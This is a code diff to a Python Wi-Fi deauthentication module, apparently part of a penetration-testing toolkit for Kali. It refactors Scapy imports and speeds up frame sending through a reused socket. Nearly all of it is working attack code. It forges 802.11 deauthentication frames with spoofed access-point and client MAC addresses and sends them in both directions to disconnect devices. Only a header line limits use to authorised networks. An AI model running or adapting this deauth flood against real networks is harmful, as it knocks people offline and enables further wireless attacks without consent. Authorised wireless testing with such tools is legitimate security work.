@@ -7,28 +7,38 @@ Unauthorized deauthentication attacks are illegal.
 Only use on networks you own or have explicit written permission to test.
 """
 
-import os
 import time
-from typing import Optional, Callable
+from functools import lru_cache
+from typing import Optional, Callable, TYPE_CHECKING
 from dataclasses import dataclass
 
-from ...settings import IS_KALI
+from ...settings import IS_KALI, RUNNING_AS_ADMIN
 
-# Only import scapy on Kali
-if IS_KALI:
+if TYPE_CHECKING:
+    from scapy.config import conf
+    from scapy.layers.dot11 import RadioTap, Dot11, Dot11Deauth
+
+
+# Scapy is imported on first use rather than with the package
+@lru_cache(maxsize=None)
+def _load_scapy() -> bool:
+    """Import the Scapy names used by the deauthenticator (Kali only)"""
+    global RadioTap, Dot11, Dot11Deauth, conf
+    
+    if not IS_KALI:
+        return False
+    
     try:
-        from scapy.all import (
-            RadioTap, Dot11, Dot11Deauth,
-            sendp, conf
-        )
-        SCAPY_AVAILABLE = True
+        # Only the 802.11 layers - scapy.all loads every layer and contrib
+        from scapy.config import conf
+        from scapy.layers.dot11 import RadioTap, Dot11, Dot11Deauth
+        import scapy.arch  # noqa: F401 - installs the platform conf.L2socket
+        return True
     except ImportError:
-        SCAPY_AVAILABLE = False
-else:
-    SCAPY_AVAILABLE = False
+        return False
 
 
-@dataclass
+@dataclass(slots=True)
 class DeauthResult:
     """Result of deauthentication test"""
     success: bool
@@ -57,7 +67,7 @@ class Deauthenticator:
     
     def __init__(self, interface: Optional[str] = None):
         self._interface = interface
-        self._is_available = IS_KALI and SCAPY_AVAILABLE
+        self._is_available = _load_scapy()
         self._is_running = False
         self._stop_flag = False
         
@@ -67,7 +77,7 @@ class Deauthenticator:
     @property
     def is_available(self) -> bool:
         """Check if deauth is available"""
-        return self._is_available and os.geteuid() == 0
+        return self._is_available and RUNNING_AS_ADMIN
     
     @property
     def is_running(self) -> bool:
@@ -77,7 +87,7 @@ class Deauthenticator:
     def set_interface(self, interface: str):
         """Set the monitor mode interface"""
         self._interface = interface
-        if SCAPY_AVAILABLE:
+        if self._is_available:
             conf.iface = interface
     
     def send_deauth(
@@ -112,23 +122,29 @@ class Deauthenticator:
         self._is_running = True
         self._stop_flag = False
         frames_sent = 0
+        sock = None
         
         try:
             # Build deauth frame: AP -> Client
-            deauth_ap_to_client = RadioTap() / Dot11(
+            frame = bytearray(bytes(RadioTap() / Dot11(
                 type=0, subtype=12,
                 addr1=target_mac,  # Destination
                 addr2=ap_mac,      # Source (AP)
                 addr3=ap_mac       # BSSID
-            ) / Dot11Deauth(reason=reason)
+            ) / Dot11Deauth(reason=reason)))
+            raw_ap_to_client = bytes(frame)
             
-            # Build deauth frame: Client -> AP
-            deauth_client_to_ap = RadioTap() / Dot11(
-                type=0, subtype=12,
-                addr1=ap_mac,      # Destination
-                addr2=target_mac,  # Source (Client)
-                addr3=ap_mac       # BSSID
-            ) / Dot11Deauth(reason=reason)
+            # Client -> AP is the same frame with addr1/addr2 swapped.
+            # RadioTap stores its own length in bytes 2-3 (little endian)
+            # and addr1/addr2 sit 4 and 10 bytes into the 802.11 header.
+            a1 = int.from_bytes(frame[2:4], "little") + 4
+            a2 = a1 + 6
+            frame[a1:a2], frame[a2:a2 + 6] = frame[a2:a2 + 6], frame[a1:a2]
+            raw_client_to_ap = bytes(frame)
+            
+            # Reuse one socket instead of letting sendp reopen the
+            # interface for every frame
+            sock = conf.L2socket(iface=self._interface)
             
             # Send frames
             for i in range(count):
@@ -136,8 +152,8 @@ class Deauthenticator:
                     break
                 
                 # Send both directions
-                sendp(deauth_ap_to_client, iface=self._interface, verbose=False)
-                sendp(deauth_client_to_ap, iface=self._interface, verbose=False)
+                sock.send(raw_ap_to_client)
+                sock.send(raw_client_to_ap)
                 frames_sent += 2
                 
                 if callback:
@@ -162,6 +178,8 @@ class Deauthenticator:
                 message=str(e)
             )
         finally:
+            if sock is not None:
+                sock.close()
             self._is_running = False
     
     def stop(self):